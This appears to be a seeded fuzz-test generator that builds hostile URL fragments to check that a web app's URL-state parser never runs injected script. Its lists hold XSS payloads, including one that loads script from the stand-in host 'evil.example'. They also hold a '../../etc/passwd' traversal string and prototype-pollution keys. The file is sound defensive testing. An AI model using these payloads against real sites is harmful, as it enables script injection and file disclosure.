// Hostile links, from a seeded generator: unknown views, bad ids, huge values, encoded script,
// truncated hashes, malformed percent-encoding, repeated parameters, unicode, javascript:-like
// values, and valid parameters in odd company. The same seed gives the same list, so a failure
// names a link that can be tried again by hand.

import type { UrlVocabulary } from '../../src/lib/state/url-state.ts';
import { PARAM_ORDER, ROUTES } from '../../src/lib/state/url-state.ts';
import { seededRandom } from '../../src/lib/layout/random.ts';

/** Script that would set window.__pwned if it ever ran: the suite checks it never does. */
export const PWNED = 'window.__pwned=1';

const pick = <T>(random: () => number, list: readonly T[]): T =>
  list[Math.floor(random() * list.length)]!;

const SCRIPTS = [
  `<script>${PWNED}</script>`,
  `"><img src=x onerror="${PWNED}">`,
  `<svg onload=${PWNED}>`,
  `javascript:${PWNED}`,
  `JaVaScRiPt:${PWNED}`,
  `java\tscript:${PWNED}`,
  `data:text/html,<script>${PWNED}</script>`,
  `vbscript:msgbox(1)`,
  `' onmouseover='${PWNED}`,
  `{@html '<img src=x onerror=${PWNED}>'}`,
  `\${${PWNED}}`,
  `</main><script src="//evil.example/x.js"></script>`,
];

const UNICODE = [
  '\u202egraph',
  'ﬁ',
  '𝔤𝔯𝔞𝔭𝔥',
  '\u200b',
  '\u0000',
  'é\u0301',
  '数据跨境流动',
  '🏳️‍🌈',
  '\ud800',
  'ＧＲＡＰＨ',
  '\u2028',
];

const MALFORMED_PERCENT = [
  '%',
  '%zz',
  '%E0%A4%A',
  '%C0%AF',
  '%%32%65',
  '%u0041',
  '%ED%A0%80',
  '%FF',
];

const HUGE = [
  '9'.repeat(30),
  '-99999',
  '1e309',
  'NaN',
  'Infinity',
  '0x7e4',
  '2024.0',
  ' 2024',
  'x'.repeat(600),
  'a'.repeat(5000),
  '~'.repeat(300),
];

const VIEWS = [
  'nope',
  'GRAPH',
  'graph/extra/path',
  '',
  '/',
  '../../etc/passwd',
  'read/../graph',
  '__proto__',
  'constructor',
  'toString',
  'map.html',
];

function encode(value: string, random: () => number): string {
  const r = random();
  if (r < 0.4) return encodeURIComponent(value).replace(/%20/g, '+');
  if (r < 0.7) return value.replace(/[&#]/g, encodeURIComponent);
  return value; // raw, the way a careless copy-paste delivers it
}

function safeEncode(value: string, random: () => number): string {
  try {
    return encode(value, random);
  } catch {
    return value; // a lone surrogate cannot be encoded: send it raw
  }
}

export function hostileUrls(vocab: UrlVocabulary, count: number, seed = 20241120): string[] {
  const random = seededRandom(seed);
  const concepts = [...vocab.concepts];
  const docs = [...vocab.documents.keys()];
  const route = (): string => pick(random, ROUTES);
  const param = (): string => pick(random, PARAM_ORDER);
  const validValue = (name: string): string => {
    switch (name) {
      case 'themes':
        return vocab.themes.filter(() => random() < 0.5).join('~');
      case 'year':
      case 'a':
      case 'b':
        return String(pick(random, vocab.years));
      case 'focus':
        return pick(random, concepts);
      case 'link':
        return `${pick(random, concepts)}~${pick(random, concepts)}`;
      case 'doc':
        return pick(random, docs);
      case 's':
        return `p${1 + Math.floor(random() * 40)}.s${1 + Math.floor(random() * 4)}`;
      case 'embed':
        return pick(random, ['1', '0', 'true']);
      default:
        return pick(random, ['2024', 'sentence', 'wuzhen', 'data', '2015']);
    }
  };

  const makers: (() => string)[] = [
    // an unknown view, with or without parameters
    () => `#/${pick(random, VIEWS)}${random() < 0.5 ? `?focus=${pick(random, concepts)}` : ''}`,
    // a known parameter with an id that does not exist
    () =>
      `#/${route()}?${param()}=${pick(random, ['nope', 'x-y-z', '2099', 'p0.s0', '-', '~', ''])}`,
    // huge and odd numbers and lengths
    () => `#/${route()}?${param()}=${safeEncode(pick(random, HUGE), random)}`,
    // script in a parameter or in the view name
    () =>
      random() < 0.8
        ? `#/${route()}?${param()}=${safeEncode(pick(random, SCRIPTS), random)}`
        : `#/${safeEncode(pick(random, SCRIPTS), random)}`,
    // a valid link cut short anywhere
    () => {
      const full = `#/${route()}?${param()}=${validValue(param())}&${param()}=${validValue(param())}`;
      return full.slice(0, 1 + Math.floor(random() * full.length));
    },
    // malformed percent-encoding
    () =>
      `#/${route()}${random() < 0.3 ? pick(random, MALFORMED_PERCENT) : ''}?${param()}=${pick(random, MALFORMED_PERCENT)}`,
    // the same parameter given again and again, valid and not
    () => {
      const name = param();
      const values = Array.from({ length: 2 + Math.floor(random() * 4) }, () =>
        random() < 0.5 ? validValue(name) : 'nope',
      );
      return `#/${route()}?${values.map((v) => `${name}=${safeEncode(v, random)}`).join('&')}`;
    },
    // unicode where ids are expected
    () => `#/${route()}?${param()}=${safeEncode(pick(random, UNICODE), random)}`,
    // valid parameters, many at once, some for other views, plus one the app does not know
    () =>
      `#/${route()}?${Array.from({ length: 3 + Math.floor(random() * 6) }, () => {
        const name = param();
        return `${name}=${safeEncode(validValue(name), random)}`;
      }).join('&')}&utm_source=${safeEncode(pick(random, SCRIPTS), random)}`,
    // structural oddities: no route, empty keys, stray separators, a second hash
    () =>
      pick(random, [
        '#',
        '#?',
        '#/?&&&=&',
        `#/${route()}??focus=${pick(random, concepts)}`,
        `#/${route()}#/${route()}`,
        `#/${route()}?=${pick(random, concepts)}`,
        `#/${route()}?focus`,
        `#/${route()}?__proto__[x]=1&constructor=1`,
        `#${route()}`,
        `#!/${route()}`,
      ]),
  ];

  const urls: string[] = [];
  for (let i = 0; i < count; i++) urls.push(makers[i % makers.length]!());
  return urls;
}
